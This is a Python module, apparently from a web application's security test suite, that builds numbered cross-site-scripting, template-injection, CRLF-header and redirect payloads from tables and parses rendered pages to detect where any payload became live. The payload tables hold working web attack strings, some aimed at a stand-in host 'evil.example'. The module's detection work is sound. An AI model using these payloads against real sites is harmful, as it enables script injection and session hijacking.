"""Script payloads, made from a small table, and what of them is found alive in a page.

Each payload carries a mark such as `zq017f042x`: the payload's number and the field's. A page in which a mark
is anything but text or the value of a harmless attribute is a page in which a payload lives.
"""

import html
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import islice, product
from urllib.parse import quote, urlsplit

EVIL = "//evil.example"
_TAGS = (
    "script>{m}</script",
    "img src=x {on}={m}",
    "svg/{on}={m}",
    "body {on}={m}",
    "iframe srcdoc={m} {on}={m}",
    "input autofocus {on}={m}",
    "details open {on}={m}",
    "math><mi xlink:href=javascript:{m}></mi></math",
    "a href=javascript:{m}",
    "form action=" + EVIL + "/{m}",
    "base href=" + EVIL + "/{m}/",
    "link rel=stylesheet href=" + EVIL + "/{m}",
    "meta http-equiv=refresh content=0;url=" + EVIL + "/{m}",
    "object data=" + EVIL + "/{m}",
    "style>*{{color:{m}}}</style",
    "zq-{m} {on}=1",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerover", "OnAnimationEnd")
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "--></script>", "</option></select>")
_WHOLE = (
    '" {on}={m} x="',
    "' {on}='{m}' x='",
    "` {on}={m} ",
    "javascript:{m}",
    "JaVa\tScRiPt:{m}",
    "java\nscript:{m}",
    "\x01javascript:{m}",
    "vbscript:{m}",
    "data:text/html,<script>{m}</script>",
    EVIL + "/{m}",
    "\\\\evil.example\\{m}",
    "{m}{{{{ 7|add:42 }}}}",
    "{m}{{% now 'Y' %}}",
    "{m}{{% include 'base.html' %}}",
    "{m}${{7*7}}",
    "{m}#{{7*7}}",
    "{m}<%= 7*7 %>",
    "{m}{{{{7*7}}}}",
    "{m}\r\nSet-Cookie: a=1\r\n\r\n<b onclick=1>",
    "{m}%0d%0aLocation:%20" + EVIL,
    "{m}\u202e\u2066<b onclick=1>\u2069",
    "{m}\u2028<img src=x onerror=1>\u2029",
    "{m}]]><script>1</script>",
    "</script><script>{m}</script>",
    "<!--{m}",
    "<!--><script>{m}</script>-->",
    "<?xml {m}?>",
    "<![CDATA[<script>{m}</script>]]>",
    "*/{m}/*",
    "%(x)s{m}",
)
_SHORT = ('"><b>', "'onx=", "<i>zq", "{{1}}")  # for fields with no room for a mark
MARK = re.compile(r"zq(\d{3})f(\d{3})x")
UNENDED = re.compile(r"<!--((?:(?!-->).)*)\Z", re.DOTALL)
EVALUATED = re.compile(r"zq\d{3}f\d{3}x[$#]?(49|20\d\d)")


def _encoded(text: str, how: str) -> str:
    return {
        "plain": text,
        "entities": html.escape(text),
        "numbers": text.replace("<", "&#60;").replace(">", "&#x3e;"),
        "percent": quote(text),
        "wide": text.replace("<", "\uff1c").replace(">", "\uff1e"),
        "split": text.replace("script", "scr<script>ipt"),
    }[how]


def payloads(count: int) -> list[str]:
    """The first `count` payloads; `{m}` in each is where its mark goes.

    Every family has its turn among the first ones: the table is walked diagonally.
    """
    whole = [each.replace("{on}", "onerror") for each in _WHOLE]
    made = []
    for turn, (break_, handler) in enumerate(product(_BREAKS, _HANDLERS)):
        for number, tag in enumerate(_TAGS):
            how = ("plain", "entities", "plain", "numbers", "percent", "wide", "split")[(turn + number) % 7]
            out = _BREAKS[(number + turn) % len(_BREAKS)] or break_
            text = f"{out}<{tag}>".replace("{on}", handler)
            # What is encoded must keep its mark readable.
            made.append(_encoded(text.replace("{m}", "\0").replace("{{", "{").replace("}}", "}"), how))
    plain = [each.replace("%00", "\0") for each in dict.fromkeys(made)]
    whole = [each.replace("{m}", "\0").replace("{{", "{").replace("}}", "}") for each in whole]
    mixed = [each for pair in zip(plain, whole, strict=False) for each in pair] + plain[len(whole) :]
    return list(islice(mixed, count))


@dataclass
class Maker:
    """Deals the payloads out to fields, so that neighbors hold different ones.

    Args:
        payloads: from `payloads`.
        dealt: the next one's number.
        fields: names of the fields by number.
    """

    payloads: list[str]
    dealt: int = 0
    fields: list[str] = field(default_factory=list)

    def fill(self, name: str, room: int) -> str:
        """As many of the next payloads as fit into a field.

        Args:
            name: the field's name.
            room: its length.
        """
        if name not in self.fields:
            self.fields.append(name)
        number = self.fields.index(name)
        text = ""
        for _each in range(min(6, len(self.payloads))):
            turn = self.dealt % len(self.payloads)
            payload = self.payloads[turn].replace("\0", f"zq{turn:03}f{number:03}x")
            if len(text) + len(payload) > room:
                break
            text += payload
            self.dealt += 1
        if text:
            return text
        for turn, raw in enumerate(self.payloads):
            payload = raw.replace("\0", f"zq{turn:03}f{number:03}x")
            if len(payload) <= room:
                return payload
        return _SHORT[self.dealt % len(_SHORT)][:room]


HARMLESS = {"value", "title", "alt", "content", "placeholder", "aria-label", "label", "id", "for", "name"}
LEADING = {
    *("href", "src", "action", "formaction", "srcdoc", "data", "xlink:href", "poster", "background"),
    "srcset",
}
UNUSED = {"object", "embed", "applet", "base", "math", "style", "noscript", "marquee", "audio", "video"}


class Reader(HTMLParser):
    """Reads a page as a browser does, and notes what lives in it.

    Args:
        own: whether a host is the product's own; the empty host is.
        websites: numbers of the fields that hold a web address, which may be linked.
        styles: whether inline styles are permitted, as in a mail.
    """

    def __init__(self, *, websites: frozenset[int] = frozenset(), styles: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.websites = websites
        self.styles = styles
        self.live: list[str] = []
        self.seen: set[tuple[int, int]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Judge an element."""
        values = {name.lower(): value or "" for name, value in attrs}
        if (tag in UNUSED and not (self.styles and tag == "style")) or MARK.search(tag):
            self.live.append(f"<{tag}>")
        if tag == "script" and not self._is_ours(values.get("src", EVIL)):
            self.live.append(f"<script {values}>")
        if tag == "iframe" and "sandbox" not in values:
            self.live.append("<iframe> without sandbox")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.live.append("<meta refresh>")
        for name, value in values.items():
            self._note(value)
            if name.startswith("on") or MARK.search(name) or (name == "style" and not self.styles):
                self.live.append(f"<{tag} {name}>")
            elif name == "srcdoc" and values.get("sandbox") == "":
                self._read_within(value)
            elif name in LEADING or name == "hx-get":
                self._judge_address(tag, name, value)
            elif MARK.search(value) and name not in HARMLESS and not name.startswith(("data-", "aria-")):
                self.live.append(f"<{tag} {name}={value[:80]!r}>")

    def _read_within(self, document: str) -> None:
        """A mail shown inside the page, where no script may run; styles may stand in it."""
        inner = Reader(websites=self.websites, styles=True)
        inner.feed(document)
        self.live += inner.live
        self.seen |= inner.seen

    def _judge_address(self, tag: str, name: str, value: str) -> None:
        squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
        if squeezed.startswith(("javascript:", "vbscript:", "data:text")) or name == "srcdoc":
            self.live.append(f"<{tag} {name}={value[:80]!r}>")
        elif tag == "a" and squeezed.startswith(("http://", "https://")):
            in_host = MARK.search(value.partition("?")[0])  # what is asked of a known host may be anything
            if in_host and int(in_host[2]) not in self.websites:
                self.live.append(f"<a> leads to {value[:80]!r}")
        elif squeezed.startswith(("mailto:", "tel:")) and tag == "a":
            pass
        elif not self._is_ours(value) and not (self.styles and squeezed.startswith("data:image")):
            self.live.append(f"<{tag} {name}={value[:80]!r}> of another host")

    @staticmethod
    def _is_ours(address: str) -> bool:
        squeezed = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/")
        try:
            parts = urlsplit(squeezed)
        except ValueError:
            return False
        host = parts.hostname or ""
        return parts.scheme in ("", "http", "https") and host in ("", "testserver", "localhost")

    def handle_data(self, data: str) -> None:
        """Text is where payloads belong, unless a template was filled in."""
        self._note(data)
        if found := EVALUATED.search(data):
            self.live.append(f"evaluated: {found[0]}")

    def handle_comment(self, data: str) -> None:
        """A payload in a comment came out of its text."""
        if MARK.search(data):
            self.live.append(f"<!--{data[:80]}")

    def handle_decl(self, decl: str) -> None:
        """Only the document type is one."""
        if decl.lower() != "doctype html" and MARK.search(decl):
            self.live.append(f"<!{decl[:80]}>")

    def handle_pi(self, data: str) -> None:
        """There are none in HTML."""
        self.live.append(f"<?{data[:80]}>")

    unknown_decl = handle_pi

    def _note(self, text: str) -> None:
        self.seen.update((int(found[1]), int(found[2])) for found in MARK.finditer(text))


def read(page: str, *, websites: frozenset[int] = frozenset(), styles: bool = False) -> Reader:
    """Read a page; see `Reader`."""
    reader = Reader(websites=websites, styles=styles)
    reader.feed(page)
    reader.close()
    # The parser takes a comment without an end for text; a browser swallows the rest of the page.
    reader.live += [f"<!--{rest[:80]}" for rest in UNENDED.findall(page) if MARK.search(rest)]
    return reader
